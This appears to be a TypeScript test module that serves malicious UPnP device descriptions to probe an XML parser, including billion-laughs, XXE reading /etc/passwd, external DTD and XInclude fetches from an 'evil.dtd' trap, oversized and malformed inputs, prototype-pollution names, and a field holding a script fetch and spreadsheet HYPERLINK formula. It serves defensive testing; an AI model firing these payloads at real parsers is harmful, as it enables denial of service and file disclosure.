import type { Attack } from '../attack.ts'
import { ipOf, LIAR, ROUTER, TRAP } from '../places.ts'
import { httpAnswer, ssdpAnswer } from '../voice.ts'

/** Descriptions that are well served and badly meant: the XML reader's attacks. */

const PORT = 8081
const trap = `http://${ipOf(ROUTER)}:${TRAP}/evil.dtd`
const LAUGHS = Array.from({ length: 12 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')
const device = (inside: string): string =>
  `<?xml version="1.0"?><root xmlns="urn:schemas-upnp-org:device-1-0"><device>${inside}</device></root>`

/** What the description is, by the attack's name. */
export const DOCUMENTS: Readonly<Record<string, string | Buffer>> = {
  'billion-laughs': `<!DOCTYPE r [<!ENTITY l0 "lol">${LAUGHS}]><root><device><modelName>&l12;</modelName></device></root>`,
  'quadratic-entity': `<!DOCTYPE r [<!ENTITY a "${'a'.repeat(50_000)}">]><root>${'&a;'.repeat(40_000)}</root>`,
  'external-entity-file':
    '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><root><device><modelName>&x;</modelName></device></root>',
  'external-entity-http': `<!DOCTYPE r [<!ENTITY x SYSTEM "${trap}">]><root><device><modelName>&x;</modelName></device></root>`,
  'parameter-entity': `<!DOCTYPE r [<!ENTITY % p SYSTEM "${trap}"> %p;]><root/>`,
  'external-dtd': `<!DOCTYPE root SYSTEM "${trap}"><root/>`,
  'doctype-in-case': `<!dOcTyPe r [<!eNtItY x "y">]><root>&x;</root>`,
  'stylesheet-instruction': `<?xml-stylesheet type="text/xsl" href="${trap}"?>${device('<modelName>x</modelName>')}`,
  xinclude: device(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${trap}"/>`),
  'deep-nesting': `${'<a>'.repeat(60_000)}${'</a>'.repeat(20_000)}`,
  'many-siblings': device('<x/>'.repeat(60_000)),
  'many-attributes': `<root ${Array.from({ length: 30_000 }, (_, i) => `a${i}="1"`).join(' ')}/>`,
  'long-attribute': `<root a="${'x'.repeat(250_000)}"/>`,
  'long-name': `<${'n'.repeat(250_000)}/>`,
  'long-text': device(`<modelName>${'m'.repeat(240_000)}</modelName>`),
  'unclosed-comment': `<root><!-- ${'- '.repeat(120_000)}`,
  'unclosed-cdata': `<root><![CDATA[ ${']] '.repeat(80_000)}`,
  'prototype-names': device(
    '<__proto__><modelName>x</modelName></__proto__><constructor>y</constructor><hasOwnProperty>z</hasOwnProperty>',
  ),
  'repeated-fields': device('<modelName>a</modelName>'.repeat(5_000)),
  'nested-fields': device('<modelName><b>x</b></modelName><friendlyName><c/></friendlyName>'),
  'namespaces-without-end': `<root ${Array.from({ length: 3_900 }, (_, i) => `xmlns:n${i}="urn:${i}"`).join(' ')}>${Array.from({ length: 1_900 }, (_, i) => `<n${i}:device/>`).join('')}</root>`,
  'instructions-without-end': `${'<?x y?>'.repeat(30_000)}<root/>`,
  'cdata-in-pieces': device(`<modelName>${'<![CDATA[x]]>'.repeat(15_000)}</modelName>`),
  'closings-without-end': `<root>${'</device>'.repeat(25_000)}`,
  'angles-without-end': '<'.repeat(250_000),
  'references-unfinished': device(`<modelName>${'&amp'.repeat(60_000)}</modelName>`),
  'number-references': device(
    `<modelName>${'&#x110000;&#0;&#27;&#xD800;&#99999999999;'.repeat(4_000)}</modelName>`,
  ),
  'utf-16': Buffer.from(`\ufeff${device('<modelName>x</modelName>')}`, 'utf16le'),
  'bad-utf-8': Buffer.from([...Buffer.from('<root><device><modelName>'), ...Buffer.alloc(100_000, 0xf5)]),
  'markup-in-fields': device(
    '<friendlyName>&lt;script&gt;fetch("http://10.91.0.1:4799")&lt;/script&gt;</friendlyName><modelName>=HYPERLINK("http://10.91.0.1:4799")</modelName><manufacturer>&#27;]0;x&#7;&#x202e;liar</manufacturer>',
  ),
}

const ANNOUNCED = ssdpAnswer({
  'CACHE-CONTROL': 'max-age=1800',
  ST: 'upnp:rootdevice',
  USN: 'uuid:liar-xml::upnp:rootdevice',
  LOCATION: `http://${ipOf(LIAR)}:${PORT}/desc.xml`,
})

export const xmlAttacks: readonly Attack[] = Object.entries(DOCUMENTS).map(([id, document]) => ({
  id: `xml-${id}`,
  tries: `its description holds ${id.replaceAll('-', ' ')}`,
  async run(by) {
    await by.serve(PORT, (stream) => stream.end(httpAnswer(document)))
    await by.onSearch([ANNOUNCED])
  },
}))
